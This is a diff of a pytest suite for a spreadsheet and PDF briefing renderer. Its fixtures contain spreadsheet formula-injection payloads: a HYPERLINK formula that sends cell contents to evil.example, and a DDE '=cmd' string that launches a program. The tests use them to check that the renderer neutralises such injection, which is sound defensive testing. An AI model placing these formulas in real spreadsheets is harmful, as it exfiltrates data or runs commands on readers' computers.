@@ -26,6 +26,7 @@ from report.briefing import (
     Briefing,
     Changes,
     FieldChange,
+    FigureMove,
     HealthItem,
     Link,
     QuarterWeight,
@@ -33,7 +34,7 @@ from report.briefing import (
     SourceRow,
     WatchItem,
 )
-from report.present import EMPTY, dates_in_words
+from report.present import EMPTY, present
 from report.render.xlsx import (
     DATE_FORMAT,
     FORMULA_STARTS,
@@ -48,7 +49,8 @@ from report.render.xlsx import (
     sheet_name,
 )
 
-SHEETS = ["Briefing", "Labs", "Evidence", "Signals", "Timeline", "Watchlist", "Data health", "Sources"]
+SHEETS = ["Briefing", "Labs", "Evidence", "Signals", "Timeline", "Watchlist", "Data health", "Sources",
+          "What changed"]
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = [INJECTION, "+44 20 7946 0000", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "=cmd|' /C calc'!A0"]
 LONG = "Long signal " + "x" * 40_000
@@ -59,7 +61,7 @@ LONG = "Long signal " + "x" * 40_000
 @pytest.fixture(scope="module")
 def sample_xlsx(sample_briefing: Briefing, tmp_path_factory: pytest.TempPathFactory) -> Path:
     path = tmp_path_factory.mktemp("xlsx") / f"{sample_briefing.stem}.xlsx"
-    path.write_bytes(render_xlsx(sample_briefing))
+    path.write_bytes(render_xlsx(present(sample_briefing)))
     return path
 
 
@@ -101,7 +103,7 @@ def busy(b: Briefing) -> Briefing:
               RowChange("Events", "2026-05-30 · DeepSeek · Closed flagship", "added"),
               RowChange("Signals", "-Removed signal", "removed")),
         verdict_before="TOO EARLY", verdict_after="SPREADING", score_before=-0.6, score_after=1.2,
-        figures=(FieldChange("Followers", "0", "1"),),
+        figures=(FigureMove("followers", (0, 4), (1, 4)),),
     )
     health = (HealthItem("stale", "Signals row 3", "'x' was observed 40 days ago"),
               HealthItem("no-source", "Labs row 4", "'Zhipu' has no source."),
@@ -117,7 +119,7 @@ def busy(b: Briefing) -> Briefing:
 @pytest.fixture(scope="module")
 def busy_xlsx(sample_briefing: Briefing, tmp_path_factory: pytest.TempPathFactory) -> Path:
     path = tmp_path_factory.mktemp("busy") / "busy.xlsx"
-    path.write_bytes(render_xlsx(busy(sample_briefing)))
+    path.write_bytes(render_xlsx(present(busy(sample_briefing))))
     return path
 
 
@@ -178,7 +180,7 @@ def test_sheets_in_section_order_briefing_first_and_active(book: openpyxl.Workbo
 def test_briefing_shows_the_same_verdict_and_figures(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
     v, f = sample_briefing.verdict, sample_briefing.figures
     assert name_cell(book, "Verdict").value == v.state == "TOO EARLY"
-    assert find(book["Briefing"], v.headline).data_type == "s"
+    assert find(book["Briefing"], present(sample_briefing).verdict.headline).data_type == "s"
     expected = {"Followers": 0, "WatchedLabs": 4, "Score": -0.6, "PaysWeight": 1.2, "RevertsWeight": 1.8,
                 "SignalsThisQuarter": f.signals_this_quarter, "DaysSincePivot": 42,
                 "DaysToNextMilestone": f.days_to_next_milestone}
@@ -207,13 +209,12 @@ def test_briefing_shows_the_same_verdict_and_figures(book: openpyxl.Workbook, sa
 def test_reasons_facts_then_signals_with_signed_weights(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
     ws = book["Briefing"]
     header = find(ws, "Kind").row
-    rows = [(ws.cell(r, 1).value, ws.cell(r, 2).value, ws.cell(r, 3).value)
-            for r in range(header + 1, header + 1 + len(sample_briefing.verdict.reasons))]
-    assert [r[2] for r in rows] == [dates_in_words(r.text) for r in sample_briefing.verdict.reasons]
+    rows = [(ws.cell(r, 1).value, ws.cell(r, 2).value, ws.cell(r, 3).value) for r in range(header + 1, header + 6)]
+    # The score is said once, beside the verdict: it is not a fact of its own.
     assert rows[0][2] == "No watched lab has closed its flagship since the pivot on 20\u00a0Apr\u00a02026 (0 of 4)."
-    assert [r[0] for r in rows] == ["Fact", "Fact", "Signal", "Signal", "Signal", "Signal"]
-    assert [r[1] for r in rows[2:]] == pytest.approx([1.2, -0.6, -0.6, -0.6])
-    assert ws.cell(header + 3, 2).number_format == SIGNED_FORMAT
+    assert [r[0] for r in rows] == ["Fact", "Signal", "Signal", "Signal", "Signal"]
+    assert [r[1] for r in rows[1:]] == pytest.approx([1.2, -0.6, -0.6, -0.6])
+    assert ws.cell(header + 2, 2).number_format == SIGNED_FORMAT
 
 
 def test_each_state_has_its_own_fill(sample_briefing: Briefing, tmp_path: Path) -> None:
@@ -222,7 +223,7 @@ def test_each_state_has_its_own_fill(sample_briefing: Briefing, tmp_path: Path) 
         briefing = dataclasses.replace(sample_briefing, verdict=dataclasses.replace(sample_briefing.verdict,
                                                                                     state=state))
         path = tmp_path / "state.xlsx"
-        path.write_bytes(render_xlsx(briefing))
+        path.write_bytes(render_xlsx(present(briefing)))
         cell = name_cell(openpyxl.load_workbook(path), "Verdict")
         assert cell.value == state
         fills[state] = cell.fill.fgColor.rgb
@@ -314,7 +315,7 @@ def test_what_changed_lists_rows_verdict_and_score(busy_xlsx: Path) -> None:
     assert "Compared with the edition of 25\u00a0May\u00a02026." in texts
     assert "TOO EARLY → SPREADING" in texts
     assert "−0.60 → +1.20" in texts
-    assert "Flagship weights: Open → Closed\nStatus since: – → 2026-05-30" in texts
+    assert "Flagship weights: Open → Closed\nStatus since: – → 30\u00a0May\u00a02026" in texts
     assert "moved +1.80" in texts
     assert {"Added", "Removed", "Changed", "Verdict", "Score", "Key figure"} <= texts
     assert "Signals: -Removed signal" in texts
@@ -342,9 +343,13 @@ def test_links_only_for_http_https_and_mailto(busy_xlsx: Path) -> None:
 
 
 def test_health_rows(busy_xlsx: Path) -> None:
+    # The readers' summary on top, then the rows for the desk.
     ws = openpyxl.load_workbook(busy_xlsx)["Data health"]
-    assert [ws.cell(r, 1).value for r in range(4, 7)] == ["Stale signal", "No source", "Check warning"]
-    assert ws["C6"].value == "+unknown column 'Extra' is ignored" and ws["C6"].quotePrefix
+    header = find(ws, "Kind").row
+    assert ws.cell(2, 1).value.startswith("All 5 counted signals are fresh")
+    assert [ws.cell(r, 1).value for r in range(header + 1, header + 4)] == ["Stale signal", "No source", "Check warning"]
+    injected = ws.cell(header + 3, 3)
+    assert injected.value == "+unknown column 'Extra' is ignored" and injected.quotePrefix
 
 
 def test_evidence_chart_spans_every_quarter(busy_xlsx: Path) -> None:
@@ -359,10 +364,10 @@ def test_empty_tables_say_so(sample_briefing: Briefing, tmp_path: Path) -> None:
     empty = dataclasses.replace(sample_briefing, quarters=(), latest_quarter=None, latest_signals=(), signals=(),
                                 timeline=(), watchlist=(), sources=(), labs=())
     path = tmp_path / "empty.xlsx"
-    path.write_bytes(render_xlsx(empty))
+    path.write_bytes(render_xlsx(present(empty)))
     book = openpyxl.load_workbook(path)
     assert book["Evidence"]["A4"].value == EMPTY["evidence"]
-    assert book["Data health"]["A4"].value == EMPTY["health"]
+    assert book["Data health"].cell(find(book["Data health"], "Kind").row + 1, 1).value == EMPTY["health"]
     assert book["Signals"]["A4"].value == EMPTY["signals"]
     assert book["Timeline"]["A4"].value == EMPTY["timeline"]
     assert book["Watchlist"]["A4"].value == EMPTY["watchlist"]
@@ -407,10 +412,10 @@ def test_long_text_is_cut_with_a_marker_and_a_warning(sample_briefing: Briefing,
     cut = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("Long")]
     assert cut and all(excel_length(c.value) <= MAX_CELL_CHARS for c in cut)
     assert re.search(r"x… \[cut: [\d,]+ characters\]$", cut[0].value)
-    warnings = list(render_xlsx_report(busy(sample_briefing)).warnings)
+    warnings = list(render_xlsx_report(present(busy(sample_briefing))).warnings)
     assert warnings and all("characters cut" in w for w in warnings)
     assert warnings[0].startswith("Signals!B")
-    assert render_xlsx_report(sample_briefing).warnings == ()
+    assert render_xlsx_report(present(sample_briefing)).warnings == ()
 
 
 def test_formula_injection_through_the_workbook(sample_copy: Path, tmp_path: Path) -> None:
@@ -429,7 +434,7 @@ def test_formula_injection_through_the_workbook(sample_copy: Path, tmp_path: Pat
     assert result.tracker is not None, [f.line() for f in result.findings]
     briefing = analyse(result.tracker, EDITION, result.findings)
     path = tmp_path / "injected.xlsx"
-    path.write_bytes(render_xlsx(briefing))
+    path.write_bytes(render_xlsx(present(briefing)))
 
     ws = openpyxl.load_workbook(path)["Signals"]
     cells = [c for row in ws.iter_rows() for c in row if c.value == INJECTION]
@@ -517,7 +522,7 @@ def pdf_text(sample_xlsx: Path, artifacts: Path, tmp_path_factory: pytest.TempPa
 def test_pdf_reads_like_the_briefing(pdf_text: str, artifacts: Path) -> None:
     for text in ("The bifurcation briefing", "TOO EARLY", "The pivot is being watched, not imitated",
                  "of 4 watched labs", "Score \u22120.60", "1.20", "1.80", "1 Jun 2026", "2026-W23", "Lab board",
-                 "Evidence by quarter", "by end of 2026-Q4", "Page 1 of 8"):
+                 "Evidence by quarter", "by end of 2026-Q4", "Page 1 of 9"):
         assert text in pdf_text, text
     assert "###" not in pdf_text  # no value too wide for its column
     pages = sorted(artifacts.glob("xlsx-briefing-page-*.png"))
